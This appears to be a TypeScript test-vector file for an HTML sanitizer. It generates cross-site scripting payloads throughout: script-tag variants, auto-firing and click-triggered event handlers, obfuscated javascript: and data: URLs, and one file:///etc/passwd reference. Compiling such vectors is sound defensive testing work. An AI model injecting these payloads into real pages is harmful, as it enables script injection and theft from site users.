import { crossed, type Vector } from './marks.ts';

export const scripts: readonly Vector[] = [
  ...crossed(
    ['{v}', '<table><tr>{v}</tr></table>', '<select>{v}</select>', '<svg>{v}</svg>', '<!--> {v} -->'],
    [
      '<script>{js}</script>',
      '<script src="{u}"></script>',
      '<ScRiPt/x>{js}</sCrIpT >',
      '<script type=module>{js}</script>',
      '<script type=importmap>{"imports":{"a":"{u}"}}</script>',
      '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{u}"]}]}</script>',
    ],
  ),
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<script\u0000>{js}</script>',
  '<script\u000C>{js}</script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">{js}</script>',
  '<svg><script href="{u}"/></svg>',
  '<svg><script xlink:href="data:text/javascript,{js}"></script></svg>',
  '<svg><script>&#99;onsole.log(/ran-{id}/)</script></svg>',
  '<math><script>{js}</script></math>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>',
  '</body></html><script>{js}</script>',
  '</style></title></textarea></noscript><script>{js}</script>',
  '<div><template shadowrootmode="open"><script>{js}</script><img src="{img}"></template></div>',
];

/** Elements whose event fires without any action of the reader. */
const alone = [
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['img src=x', 'onerror'],
  ['img src=x', 'onloadend'],
  ['iframe', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['script src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['p tabindex=0 autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['input type=image src=x', 'onerror'],
  ['svg><animate attributeName=x dur=1ms', 'onbegin'],
  ['svg><set attributeName=x dur=1ms', 'onend'],
  ['svg><image href=x', 'onerror'],
  ['style>@keyframes k{}</style><p style="animation:1ms k"', 'onanimationstart'],
  ['p style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
] as const;

/** Events that need an action of the reader. */
const provoked = [
  ['p', 'onclick'],
  ['p', 'onmouseover'],
  ['a href=#', 'onclick'],
  ['button', 'onclick'],
  ['summary', 'onclick'],
  ['p', 'onpointerenter'],
  ['p', 'onauxclick'],
  ['p contenteditable', 'onbeforeinput'],
  ['p draggable=true', 'ondragstart'],
  ['p', 'oncopy'],
  ['x-y is=z', 'onclick'],
  ['label for=q', 'onclick'],
] as const;

const spellings = (tag: string, event: string): Vector[] => [
  `<${tag} ${event}="{js}">x`,
  `<${tag}/${event.toUpperCase()}={js}>x`,
  `<${tag}\n${event}\n=\n'{js}'>x`,
  `<${tag} ${event}="&#99;onsole.log(/ran-{id}/)" ${event}=2>x`,
];

export const handlers: readonly Vector[] = [
  ...alone.flatMap(([tag, event]) => spellings(tag, event)),
  ...provoked.flatMap(([tag, event]) => spellings(tag, event).slice(0, 2)),
  '<p dir="ltr&quot; onmouseover=&quot;{js}">quotes</p>',
  '<p title="`" onclick="{js}" alt="`">backticks</p>',
  '<img src="x` `<script>{js}</script>"` `>',
  '<img """><script>{js}</script>">',
  '<p lang="x\u0000" on\u0000click={js}>nul</p>',
  '<img src=x onerror\u000C={js}>',
  '<p align="{{constructor.constructor(\'{js}\')()}}" v-html="{js}" ng-app ng-init="{js}" @click="{js}">templates</p>',
];

/** Ways to write an address that runs a script. */
const running = [
  'javascript:{js}',
  'JaVaScRiPt:{js}',
  ' javascript:{js}',
  '&#1;javascript:{js}',
  '&#x20;&#x1F;javascript:{js}',
  'java&Tab;script:{js}',
  'java&NewLine;script:{js}',
  'jav&#x0D;ascript:{js}',
  'javascript&colon;{js}',
  'javascript&#58;{js}',
  'javascript&#0000058{js}',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{js}',
  'javascript:/*-/*`/*\\`/*&#39;/*&quot;/**/{js}',
  'javascript://%0A{js}',
  'javascript://x.example/%E2%80%A8{js}',
  'javascript:%63onsole.log(/ran-{id}/)',
  'data:text/html,<script>{js}</script>',
  'data:text/html;charset=utf-16,<script>{js}</script>',
  'data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;{js}&quot;/>',
  'data:application/xhtml+xml,<x xmlns=&quot;http://www.w3.org/1999/xhtml&quot;><script>{js}</script></x>',
  'data:text/xml,<?xml-stylesheet href=&quot;{u}&quot;?><x/>',
  'vbscript:msgbox(1)',
  'view-source:javascript:{js}',
  'feed:javascript:{js}',
  'blob:{u}',
  'filesystem:{u}',
  'about:blank#{js}',
  'javascript\u200B:{js}',
  '\u00A0javascript:{js}',
];
/** Places where such an address may be. */
const places = [
  '<a href="{v}">link</a>',
  '<area href="{v}"><map name=m><area href="{v}"></map>',
  '<form action="{v}"><input type=submit></form>',
  '<button formaction="{v}" form=f>send</button><form id=f></form>',
  '<iframe src="{v}"></iframe>',
  '<object data="{v}"></object><embed src="{v}">',
  '<svg><a xlink:href="{v}"><text y=9>svg</text></a></svg>',
  '<svg><a><animate attributeName=href values="{v}"/><text y=9>smil</text></a></svg>',
  '<math href="{v}"><mtext href="{v}">math</mtext></math>',
  '<meta http-equiv=refresh content="0;url={v}">',
];

export const addresses: readonly Vector[] = [
  // Half of all pairs: each spelling is in five places.
  ...places.flatMap((place, row) =>
    crossed(
      [place],
      running.filter((_, column) => (row + column) % 2 === 0),
    ),
  ),
  '<base href="javascript:{js}//"><a href="#">base</a>',
  '<img src="javascript:{js}">',
  '<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot;><image href=&quot;{u}&quot;/></svg>">',
  '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;{js}">',
  '<img src="data:text/html,<script>{js}</script>">',
  '<img src="blob:https://{host}/0-0">',
  '<img src="cid:x&quot; onerror=&quot;{js}">',
  '<img src="file:///etc/passwd"><img src="ftp://{host}/other-{id}">',
  '<input type=image src="javascript:{js}" formaction="javascript:{js}">',
];
